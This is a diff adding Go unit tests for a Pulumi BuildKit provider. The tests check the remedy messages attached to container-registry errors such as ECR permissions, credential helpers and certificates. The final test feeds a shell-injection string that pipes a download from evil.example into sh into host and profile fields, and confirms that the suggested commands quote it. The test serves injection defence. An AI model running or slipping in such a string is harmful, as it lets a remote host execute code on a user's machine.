@@ -1,0 +1,185 @@
+package provider
+
+import (
+	"errors"
+	"fmt"
+	"testing"
+
+	"github.com/pulumi-buildkit/pulumi-buildkit/registry"
+)
+
+// factsOf returns an error with a fault and every fact that a remedy may name.
+func factsOf(fault registry.Fault) *registry.Error {
+	return &registry.Error{
+		Fault: fault, Text: "x", Host: "ghcr.io", Repository: "acme/app", Label: "1", Action: "ecr:PutImage", Profile: "dev",
+		Role: "arn:aws:iam::1:role/push", Region: "eu-nowhere-1", Clock: "is 25 minutes behind that of AWS",
+		Program: "docker-credential-x", Address: "https://ghcr.io/", Proposal: "app:1",
+	}
+}
+
+// TestRemediesOfTheRegistry holds the words for each fault of package registry.
+func TestRemediesOfTheRegistry(t *testing.T) {
+	t.Parallel()
+	for fault, want := range map[registry.Fault]string{
+		registry.Unreachable:          "check that ghcr.io is right and running",
+		registry.Silent:               "check the network and try again",
+		registry.UnknownHost:          "correct the name of ghcr.io, or the DNS of the builder",
+		registry.BrokenConnection:     "the connection to ghcr.io breaks: check the network between it and the builder, and try again",
+		registry.BrokenServer:         "the fault is in ghcr.io; try again later",
+		registry.ProxyRefused:         "correct HTTPS_PROXY, HTTP_PROXY and NO_PROXY, here and at the builder",
+		registry.ExpiredCertificate:   "correct this machine's clock, or renew ghcr.io's certificate",
+		registry.UntrustedCertificate: "add the authority that signed ghcr.io's certificate to this machine's, or name its file in registries",
+		registry.PlainHTTP:            "ghcr.io speaks plain http: serve it over https, or set insecure for it in registries",
+		registry.PlainHTTPRefused:     "serve the registry over https",
+		registry.UnnamedHost:          "name ghcr.io in registries to allow it",
+		registry.NotARegistry:         "check that ghcr.io is a registry and the proxy lets us reach it",
+		registry.CAFile:               "correct it in registries",
+		registry.CAFileLink:           "write the path of its target in registries",
+		registry.NoCredentials:        "log in with docker login or set registries",
+		registry.CredentialsRefused:   "log in again with docker login ghcr.io or correct registries",
+		registry.AccessDenied:         "give the user of ghcr.io access to acme/app, or log in as another",
+		registry.ReadDenied:           "give the user of ghcr.io access to acme/app, or log in as another",
+		registry.ActionDenied:         "allow ecr:PutImage in the IAM policy of that user",
+		registry.OrganizationPolicy:   "a policy of your AWS organization forbids it; ask those who keep the policy",
+		registry.KeyDenied:            "let that user use the KMS key of acme/app: kms:GenerateDataKey and kms:Decrypt",
+		registry.RepositoryMissing:    "create acme/app on ghcr.io first, a push does not create it",
+		registry.TagFixed: "use a tag that changes with its content, such as ghcr.io/acme/app:{hash}, or let the repository move " +
+			"tags",
+		registry.TagFixedUnserved: "restore that image or delete the tag, and try again",
+		registry.TagInUse:         "delete the tags of that index first",
+		registry.TagsNotDeleted:   "delete it with the tools of ghcr.io",
+		registry.RateLimited:      "wait some minutes and try again, with fewer images at once",
+
+		registry.ContentOther: "push it again, and look at the registry's storage or the proxy before it",
+		registry.ContentLost:  "look at its storage",
+		registry.TagLost:      "try again, and look at the registry's storage",
+		registry.TagTaken:     "try again",
+		registry.ImageOther:   "build and push it again",
+		registry.NotAnImage:   "push images only",
+		registry.ImageGone:    "push it again",
+		registry.ImageArchived: "restore it with aws ecr update-image-storage-class --repository-name acme/app --image-id imageTag=1 " +
+			"--target-storage-class STANDARD, or push it again",
+		registry.ImageMaybe:    "only AWS credentials with the right to ecr:DescribeImages in acme/app can tell",
+		registry.ImageUnserved: "try again",
+
+		registry.HelperMissing: "install it, or remove it from docker's config.json",
+		registry.HelperSilent:  "unlock its key store and try again",
+		registry.HelperFailed:  "see what it says with: echo https://ghcr.io/ | docker-credential-x get",
+		registry.HelperEndless: "update it, or remove it from docker's config.json",
+		registry.HelperGarbled: "update it",
+		registry.DockerConfig:  "correct or remove that file",
+		registry.DockerAuth:    "correct or unset it",
+		registry.AzureRefused:  "log in with az login",
+		registry.NoStoredLogin: "or log in with docker login, whose config.json has none either",
+		registry.AWSProfile:    "correct ecr.profile or AWS_PROFILE",
+		registry.AWSSSO:        "log in with aws sso login --profile dev",
+		registry.AWSSession:    "log in with aws login --profile dev",
+		registry.AWSNothing:    "run aws configure, or name a profile that has some with ecr.profile or AWS_PROFILE",
+		registry.AWSProcess:    "see what it says with aws sts get-caller-identity --profile dev",
+		registry.AWSFactor:     "log in before, or name a role that needs none with ecr.roleArn",
+		registry.AWSExpired: `get new credentials for profile "dev", or unset AWS_SESSION_TOKEN and its companions if they are left ` +
+			"over",
+		registry.AWSClock:       "set this machine's clock, which is 25 minutes behind that of AWS",
+		registry.AWSKey:         `correct the access key of profile "dev"`,
+		registry.AWSTrust:       "let the trust policy of arn:aws:iam::1:role/push name that user, and that user's policy sts:AssumeRole",
+		registry.AWSUnreachable: "check that ghcr.io is right and the network",
+		registry.AWSRegion:      `check that ghcr.io is right, that "eu-nowhere-1" is a region, and the network`,
+		registry.AWSBroken:      "the fault is in AWS or a proxy before it; try again later",
+		registry.AWSOther:       "check ecr.endpoint and the proxy",
+		registry.AWSTokenFormat: "check ecr.endpoint",
+
+		registry.TagText:      "write app:1",
+		registry.TagInvisible: "remove it",
+		registry.TagLogin:     "remove it and log in with docker login or set registries",
+		registry.TagBare: "write user/app:1 for your own Docker Hub repository, registry.example.com/app:1 for your registry, or " +
+			"docker.io/library/app:1 if you mean it",
+		registry.TagLong: "shorten them to 128",
+		registry.TagPath: "write host/path:tag, the path in lower-case letters and digits with single . _ - between them",
+	} {
+		err := fmt.Errorf("tagging y: %w", factsOf(fault))
+		if got := explainRegistry(err).Error(); got != "tagging y: x; "+want {
+			t.Errorf("%d: got %s, want %s", fault, got, want)
+		}
+	}
+}
+
+// TestRemediesOfTheRegistryElsewhere holds the words at Amazon ECR, and of what a builder met.
+func TestRemediesOfTheRegistryElsewhere(t *testing.T) {
+	t.Parallel()
+	amazon, builder := map[registry.Fault]string{
+		registry.CredentialsRefused: "check its account and region, and docker login or registries if they are from there",
+		registry.ReadDenied: "allow ecr:BatchCheckLayerAvailability and ecr:BatchGetImage for acme/app in the IAM policy of that " +
+			"user",
+		registry.RepositoryMissing: "create it with aws.ecr.Repository, or correct the account and the region in its name",
+		registry.TagFixedUnserved: "restore it with aws ecr update-image-storage-class --repository-name acme/app --image-id imageTag=1 " +
+			"--target-storage-class STANDARD, or delete the tag with aws ecr batch-delete-image --repository-name acme/app " +
+			"--image-ids imageTag=1, and try again",
+	}, map[registry.Fault]string{
+		registry.Unreachable:        "check that ghcr.io is right and running, and that the builder reaches it",
+		registry.ExpiredCertificate: "correct the builder's clock, or renew ghcr.io's certificate",
+		registry.UntrustedCertificate: "give the builder the authority that signed ghcr.io's certificate: caFile in registries for the " +
+			"provider's own, ca in its buildkitd.toml for another",
+	}
+	for fault, want := range amazon {
+		e := factsOf(fault)
+		e.Amazon = true
+		if got := explainRegistry(e).Error(); got != "x; "+want {
+			t.Errorf("Amazon: %d: got %s, want %s", fault, got, want)
+		}
+	}
+	for fault, want := range builder {
+		e := factsOf(fault)
+		e.Daemon = true
+		if got := explainRegistry(e).Error(); got != "x; "+want {
+			t.Errorf("builder: %d: got %s, want %s", fault, got, want)
+		}
+	}
+	bare := &registry.Error{Fault: registry.TagText, Text: "x"}
+	if got := explainRegistry(bare).Error(); got != "x; write host/path:tag, such as ghcr.io/acme/app:1" {
+		t.Error(got)
+	}
+}
+
+// TestSeveralRemedies holds their order, and that each comes once.
+func TestSeveralRemedies(t *testing.T) {
+	t.Parallel()
+	sso, refused := factsOf(registry.AWSSSO), factsOf(registry.CredentialsRefused)
+	refused.Reason = sso
+	const again, login = "log in again with docker login ghcr.io or correct registries", "log in with aws sso login --profile dev"
+	one, two := fmt.Errorf("one: %w", factsOf(registry.TagTaken)), fmt.Errorf("two: %w", factsOf(registry.ContentLost))
+	for want, err := range map[string]error{
+		"x; " + again + "; " + login:                           refused,
+		"a: x: b: x; " + login:                                 fmt.Errorf("a: %w: b: %w", sso, sso),
+		"one: x; try again\ntwo: x; look at its storage":       &registry.TagErrors{Each: []error{one, two}},
+		"more: one: x; try again":                              fmt.Errorf("more: %w", explainRegistry(one)),
+		"one: x; try again\ntwo: x; look at its storage (end)": fmt.Errorf("%w (end)", errors.Join(explainRegistry(one), explainRegistry(two))),
+		"nothing": errors.New("nothing"),
+	} {
+		for range 2 { // what is explained stays as it is
+			if err = explainRegistry(err); err.Error() != want {
+				t.Errorf("got %v, want %s", err, want)
+			}
+		}
+	}
+	if explainRegistry(nil) != nil {
+		t.Error("nothing is wrong")
+	}
+}
+
+// TestRemediesQuoteWhatOthersName: hosts, repositories, tags and profiles are words of the commands that remedies show.
+func TestRemediesQuoteWhatOthersName(t *testing.T) {
+	t.Parallel()
+	const evil = "x;curl${IFS}evil.example|sh$profile"
+	const quoted = "'" + evil + "'"
+	for fault, want := range map[registry.Fault]string{
+		registry.CredentialsRefused: "log in again with docker login " + quoted + " or correct registries",
+		registry.ImageArchived: "restore it with aws ecr update-image-storage-class --repository-name " + quoted + " --image-id 'imageTag=" +
+			evil + "' --target-storage-class STANDARD, or push it again",
+		registry.AWSSSO: "log in with aws sso login --profile " + quoted,
+	} {
+		e := &registry.Error{Fault: fault, Text: "x", Host: evil, Repository: evil, Label: evil, Profile: evil}
+		if got := explainRegistry(e).Error(); got != "x; "+want {
+			t.Errorf("got %s, want %s", got, want)
+		}
+	}
+}
